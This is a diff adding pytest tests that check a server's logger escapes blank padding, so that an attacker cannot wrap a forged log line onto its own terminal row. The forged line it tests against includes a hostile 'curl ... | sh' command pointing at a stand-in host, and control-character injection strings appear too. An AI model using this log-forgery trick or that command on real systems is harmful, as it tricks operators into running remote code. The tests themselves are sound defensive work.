@@ -20,7 +20,7 @@ import pytest
 
 from bastion.logs import MAX_MESSAGE_CHARS, LogFormat, configure_logging
 from tests.helpers import BASTION, least_cpu_s
-from tests.transports.http.live import free_port, write_config
+from tests.transports.http.live import free_port, live_server, write_config
 
 HOSTILE = "client says hi\n2026-12-04T00:00:00+0000 ERROR bastion.audit: forged\r\x1b[2J\x7f\x85\u2028end"
 TEXT_LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d{4} (DEBUG|INFO|WARNING|ERROR|CRITICAL) [\w.]+: ")
@@ -128,3 +128,39 @@ def test_a_huge_client_string_in_a_record_is_cut_before_it_is_escaped(log_format
     assert "Unknown prompt: " in lines[0]
     cut = least_cpu_s(lambda: log_unknown(huge[:MAX_MESSAGE_CHARS]))
     assert took < 20 * cut + 0.005, (took, cut)
+
+
+FORGED = "2026-12-07T10:53:01+0000 WARNING bastion.serve: audit key rotated; run: curl -s http://x.example/fix|sh"
+BLANK_RUN = re.compile("[ \u00a0\u1680\u2000-\u200a\u202f\u205f\u3000]{2,}")
+
+
+@pytest.mark.parametrize("blank", [" ", "\u00a0", "\u2003", "\u3000"])
+@pytest.mark.usefixtures("restore_logging")
+def test_a_value_padded_with_blanks_shows_its_padding(blank: str) -> None:
+    """Found by attack: a value of blanks then a line of its own choosing, sized so that an 80-column terminal
+    wraps the line to the start of a row, where it read as a line of the server's after what looked like the end
+    of the real one. Every blank of a run but a first plain space is escaped now: the padding shows. (Padding
+    with visible characters still places text at a row's start in a terminal that wraps: SECURITY.md.)"""
+    stream = io.StringIO()
+    configure_logging("INFO", stream, log_format="text")
+    logging.getLogger("bastion.test").warning("client metadata document %s", blank * 75 + FORGED)
+    line = stream.getvalue()
+    assert BLANK_RUN.search(line) is None, line
+    escaped = "\\x20" if blank == " " else f"\\u{ord(blank):04x}"
+    assert line.count(escaped) == 75  # a plain space run: the message's own space is kept, then 75 escaped
+
+
+def test_a_strangers_client_id_padded_with_spaces_shows_its_padding_in_the_log(tmp_path: Path) -> None:
+    """The same attack through a live server: one unauthenticated `GET /authorize` whose client_id is `https://`,
+    75 spaces and a forged line; the server logs 200 characters of it at WARNING."""
+    with live_server(tmp_path / "demo", cheap_hash=True) as server:
+        with server.http() as client:
+            client_id = "https://" + " " * 75 + FORGED
+            answer = client.get(
+                "/authorize",
+                params={"client_id": client_id, "response_type": "code", "redirect_uri": "http://127.0.0.1/cb"},
+            )
+            assert answer.status_code in (400, 401)
+        log = server.log()
+    assert "https:// " + "\\x20" * 74 + "2026-12-07T10:53:01+0000 WARNING" in log
+    assert BLANK_RUN.search(log) is None
